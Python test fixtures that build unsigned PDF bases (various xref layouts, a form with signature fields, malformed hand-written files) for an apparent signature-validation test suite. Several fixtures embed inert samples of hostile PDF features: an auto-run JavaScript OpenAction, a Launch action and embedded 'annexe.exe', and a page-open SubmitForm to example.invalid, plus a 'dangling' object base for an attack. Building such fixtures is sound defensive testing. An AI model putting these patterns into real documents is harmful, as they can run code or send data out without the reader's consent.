"""Unsigned documents as different producers write them: the bases the corpus signs.

- ``fpdf``: the project's own renderer (fpdf2): classic xref table, inherited page box, /OpenAction;
- ``xref_stream``: pyHanko's writer, a cross-reference stream;
- ``classic``: pyHanko's writer with a classic xref table;
- ``hybrid``: a hybrid-reference file (as Word writes them), ``forge.hybrid_pdf``;
- ``object_streams``: the fpdf2 document rewritten by qpdf (pikepdf) into object streams;
- ``linearized``: the same, linearised ("fast web view"): two cross-reference sections from the start;
- ``form``: a decision with text fields (one filled, two empty), a check box and two empty signature
  fields, for the President and the HR head;
- ``two_pages``: two pages, for removals;
- ``commented``: a page that already carries a sticky note;
- ``dangling``: a page whose contents name an object that does not exist yet (an attack's base).
"""

import io

import pikepdf
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name, pdf_string
from pyhanko.pdf_utils.writer import PageObject, PdfFileWriter
from pyhanko.sign import fields

from tests.pki import sample_pdf

from .. import forge

A4 = forge.A4
HELVETICA = forge.HELVETICA


def _page_text(lines, top=780):
    ops = b"".join(forge.text_ops(line, top - 22 * i) + b" " for i, line in enumerate(lines))
    return ops


def fpdf() -> bytes:
    return sample_pdf("Decision de mise a la retraite", lines=[("Montant", "1000 DH")])


def xref_stream() -> bytes:
    w = PdfFileWriter()
    w.insert_page(PageObject(forge.stream(w, _page_text(["Attestation de travail", "Montant: 1000 DH"])),
                             A4, HELVETICA))
    return forge.write(w)


def classic() -> bytes:
    w = PdfFileWriter(stream_xrefs=False)
    w.insert_page(PageObject(forge.stream(w, _page_text(["Certificat de salaire", "Montant: 1000 DH"])),
                             A4, HELVETICA))
    return forge.write(w)


def hybrid() -> bytes:
    return forge.hybrid_pdf()


def _qpdf(data: bytes, **options) -> bytes:
    with pikepdf.open(io.BytesIO(data)) as pdf:
        out = io.BytesIO()
        pdf.save(out, **options)
        return out.getvalue()


def object_streams() -> bytes:
    return _qpdf(fpdf(), object_stream_mode=pikepdf.ObjectStreamMode.generate)


def linearized() -> bytes:
    return _qpdf(fpdf(), linearize=True, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def two_pages() -> bytes:
    w = PdfFileWriter()
    for text in ("Page 1: decision", "Page 2: annexe, montant 1000 DH"):
        w.insert_page(PageObject(forge.stream(w, _page_text([text])), A4, HELVETICA))
    return forge.write(w)


def _appearance(w, text: bytes, width=200, height=24):
    return w.add_object(generic.StreamObject(
        {pdf_name("/Type"): pdf_name("/XObject"), pdf_name("/Subtype"): pdf_name("/Form"),
         pdf_name("/BBox"): generic.ArrayObject(map(generic.NumberObject, (0, 0, width, height))),
         pdf_name("/Resources"): HELVETICA},
        stream_data=b"/Tx BMC BT /F1 12 Tf 2 7 Td (" + text + b") Tj ET EMC" if text else b"/Tx BMC EMC"))


def _text_field(w, page, name, value, y):
    entries = {
        pdf_name("/Type"): pdf_name("/Annot"), pdf_name("/Subtype"): pdf_name("/Widget"),
        pdf_name("/FT"): pdf_name("/Tx"), pdf_name("/T"): pdf_string(name),
        pdf_name("/F"): generic.NumberObject(4), pdf_name("/DA"): pdf_string("/Helv 12 Tf 0 g"),
        pdf_name("/Rect"): generic.ArrayObject(map(generic.NumberObject, (300, y, 500, y + 24))),
        pdf_name("/AP"): generic.DictionaryObject({pdf_name("/N"): _appearance(w, value.encode())}),
        pdf_name("/P"): page,
    }
    if value:
        entries[pdf_name("/V")] = pdf_string(value)
    return w.add_object(generic.DictionaryObject(entries))


def _check_box(w, page, name, y):
    on = w.add_object(generic.StreamObject(
        {pdf_name("/Type"): pdf_name("/XObject"), pdf_name("/Subtype"): pdf_name("/Form"),
         pdf_name("/BBox"): generic.ArrayObject(map(generic.NumberObject, (0, 0, 14, 14)))},
        stream_data=b"0 g 2 2 10 10 re f"))
    off = w.add_object(generic.StreamObject(
        {pdf_name("/Type"): pdf_name("/XObject"), pdf_name("/Subtype"): pdf_name("/Form"),
         pdf_name("/BBox"): generic.ArrayObject(map(generic.NumberObject, (0, 0, 14, 14)))},
        stream_data=b"0 G 1 1 12 12 re S"))
    return w.add_object(generic.DictionaryObject({
        pdf_name("/Type"): pdf_name("/Annot"), pdf_name("/Subtype"): pdf_name("/Widget"),
        pdf_name("/FT"): pdf_name("/Btn"), pdf_name("/T"): pdf_string(name),
        pdf_name("/V"): pdf_name("/Off"), pdf_name("/AS"): pdf_name("/Off"), pdf_name("/F"): generic.NumberObject(4),
        pdf_name("/Rect"): generic.ArrayObject(map(generic.NumberObject, (300, y, 314, y + 14))),
        pdf_name("/AP"): generic.DictionaryObject({pdf_name("/N"): generic.DictionaryObject(
            {pdf_name("/Yes"): on, pdf_name("/Off"): off})}),
        pdf_name("/P"): page,
    }))


def form() -> bytes:
    """A decision with its form: amount (filled: signed as 1000 DH), visa and date (empty), a check
    box 'agree', and empty signature fields President and DRH at the bottom of the page."""
    w = PdfFileWriter()
    page = w.insert_page(PageObject(forge.stream(w, _page_text(
        ["Decision de mise a la retraite", "Montant:", "Visa du service:", "Date:", "Accord:"], top=760)),
        A4, HELVETICA))
    widgets = [_text_field(w, page, "amount", "1000 DH", 732), _text_field(w, page, "visa", "", 710),
               _text_field(w, page, "date", "", 688), _check_box(w, page, "agree", 668)]
    page.get_object()[pdf_name("/Annots")] = generic.ArrayObject(widgets)
    helv = generic.DictionaryObject({pdf_name("/Type"): pdf_name("/Font"), pdf_name("/Subtype"): pdf_name("/Type1"),
                                     pdf_name("/BaseFont"): pdf_name("/Helvetica"),
                                     pdf_name("/Encoding"): pdf_name("/WinAnsiEncoding")})
    w.root[pdf_name("/AcroForm")] = w.add_object(generic.DictionaryObject({
        pdf_name("/Fields"): generic.ArrayObject(widgets),
        pdf_name("/DR"): generic.DictionaryObject({pdf_name("/Font"): generic.DictionaryObject(
            {pdf_name("/Helv"): w.add_object(helv)})}),
        pdf_name("/DA"): pdf_string("/Helv 0 Tf 0 g"),
    }))
    for name, box in (("President", (60, 60, 260, 120)), ("DRH", (330, 60, 530, 120))):
        fields.append_signature_field(w, fields.SigFieldSpec(name, box=box, on_page=0))
    return forge.write(w)


def commented() -> bytes:
    w = PdfFileWriter()
    page = w.insert_page(PageObject(forge.stream(w, _page_text(["Attestation", "Montant: 1000 DH"])),
                                    A4, HELVETICA))
    note = w.add_object(generic.DictionaryObject({
        pdf_name("/Type"): pdf_name("/Annot"), pdf_name("/Subtype"): pdf_name("/Text"),
        pdf_name("/Rect"): generic.ArrayObject(map(generic.NumberObject, (520, 780, 540, 800))),
        pdf_name("/Contents"): pdf_string("A verifier avant signature"), pdf_name("/P"): page}))
    page.get_object()[pdf_name("/Annots")] = generic.ArrayObject([note])
    return forge.write(w)


def _hand_written(page_extra=b"", catalog_extra=b"", startxref_shift=0, contents=b"4 0 R",
                  text="Attestation: montant 1000 DH") -> bytes:
    """A one-page PDF written byte by byte, as no library would write it."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}

    def obj(num, body):
        offsets[num] = len(out)
        out.extend(b"%d 0 obj\n" % num + body + b"\nendobj\n")

    content = forge.text_ops(text)
    obj(1, b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>")
    obj(2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
    obj(3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents " + contents +
           b" /Resources << /Font << /F1 5 0 R >> >> " + page_extra + b">>")
    obj(4, b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream")
    obj(5, b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
    xref = len(out)
    out.extend(b"xref\n0 6\n0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % offsets[n] for n in range(1, 6)))
    out.extend(b"trailer\n<< /Size 6 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (xref + startxref_shift))
    return bytes(out)


def missing_object() -> bytes:
    """A page that names a thumbnail, and a catalogue that names an outline, that were never
    written: a tolerant reader reads them as null (ISO 32000-2 7.3.10)."""
    return _hand_written(page_extra=b"/Thumb 40 0 R ", catalog_extra=b"/Outlines 41 0 R ")


def wrong_startxref() -> bytes:
    """A cross-reference table that is not quite where startxref says (a writer's off-by-some)."""
    return _hand_written(startxref_shift=-3)


def dangling() -> tuple[bytes, int]:
    """A page whose /Contents is [4 0 R 900 0 R] where object 900 is not defined: readers show only 4."""
    return _hand_written(contents=b"[4 0 R 900 0 R]", text="Montant: 1000 DH"), 900


BASES = {
    "fpdf": fpdf,
    "xref_stream": xref_stream,
    "classic": classic,
    "hybrid": hybrid,
    "object_streams": object_streams,
    "linearized": linearized,
}


def _with(change) -> bytes:
    """A pyHanko-written one-page document, then ``change(writer, page_ref)`` before it is written."""
    w = PdfFileWriter()
    page = w.insert_page(PageObject(forge.stream(w, _page_text(["Attestation", "Montant: 1000 DH"])), A4, HELVETICA))
    change(w, page)
    return forge.write(w)


def _action(kind, **entries):
    return generic.DictionaryObject({pdf_name("/S"): pdf_name(kind),
                                     **{pdf_name(f"/{k}"): v for k, v in entries.items()}})


def _link(w, page, action, rect=(56, 700, 300, 720)):
    annot = w.add_object(generic.DictionaryObject({
        pdf_name("/Type"): pdf_name("/Annot"), pdf_name("/Subtype"): pdf_name("/Link"),
        pdf_name("/Rect"): generic.ArrayObject(map(generic.NumberObject, rect)), pdf_name("/A"): action}))
    page.get_object()[pdf_name("/Annots")] = generic.ArrayObject([annot])


def with_links() -> bytes:
    """Harmless navigation: a web link, a link to the page, a bookmark, an opening view."""
    def change(w, page):
        _link(w, page, _action("/URI", URI=pdf_string("https://www.cmr.gov.ma/")))
        item = w.add_object(generic.DictionaryObject({
            pdf_name("/Title"): pdf_string("Montant"),
            pdf_name("/A"): _action("/GoTo", D=generic.ArrayObject([page, pdf_name("/Fit")]))}))
        outlines = w.add_object(generic.DictionaryObject({
            pdf_name("/Type"): pdf_name("/Outlines"), pdf_name("/First"): item, pdf_name("/Last"): item,
            pdf_name("/Count"): generic.NumberObject(1)}))
        item.get_object()[pdf_name("/Parent")] = outlines
        w.root[pdf_name("/Outlines")] = outlines
        w.root[pdf_name("/OpenAction")] = generic.ArrayObject([page, pdf_name("/FitH"), generic.NullObject()])
    return _with(change)


def with_javascript() -> bytes:
    def change(w, page):
        w.root[pdf_name("/OpenAction")] = _action("/JavaScript", JS=pdf_string("app.alert('Bonjour')"))
    return _with(change)


def with_launch_link() -> bytes:
    def change(w, page):
        _link(w, page, _action("/Launch", F=pdf_string("annexe.exe")))
    return _with(change)


def with_page_actions() -> bytes:
    def change(w, page):
        page.get_object()[pdf_name("/AA")] = generic.DictionaryObject({
            pdf_name("/O"): _action("/SubmitForm", F=pdf_string("http://example.invalid/collect"))})
    return _with(change)


def with_bookmark_script() -> bytes:
    def change(w, page):
        item = w.add_object(generic.DictionaryObject({
            pdf_name("/Title"): pdf_string("Annexe"), pdf_name("/A"): _action("/JavaScript", JS=pdf_string("1"))}))
        w.root[pdf_name("/Outlines")] = w.add_object(generic.DictionaryObject({
            pdf_name("/First"): item, pdf_name("/Last"): item}))
    return _with(change)


def with_attachment() -> bytes:
    def change(w, page):
        payload = w.add_object(generic.StreamObject({pdf_name("/Type"): pdf_name("/EmbeddedFile")},
                                                   stream_data=b"MZ\x90\x00 a program"))
        spec = w.add_object(generic.DictionaryObject({
            pdf_name("/Type"): pdf_name("/Filespec"), pdf_name("/F"): pdf_string("annexe.exe"),
            pdf_name("/EF"): generic.DictionaryObject({pdf_name("/F"): payload})}))
        w.root[pdf_name("/Names")] = generic.DictionaryObject({pdf_name("/EmbeddedFiles"): generic.DictionaryObject({
            pdf_name("/Names"): generic.ArrayObject([pdf_string("annexe.exe"), spec])})})
    return _with(change)


def with_rich_media() -> bytes:
    def change(w, page):
        annot = w.add_object(generic.DictionaryObject({
            pdf_name("/Type"): pdf_name("/Annot"), pdf_name("/Subtype"): pdf_name("/RichMedia"),
            pdf_name("/Rect"): generic.ArrayObject(map(generic.NumberObject, (56, 500, 300, 600)))}))
        page.get_object()[pdf_name("/Annots")] = generic.ArrayObject([annot])
    return _with(change)
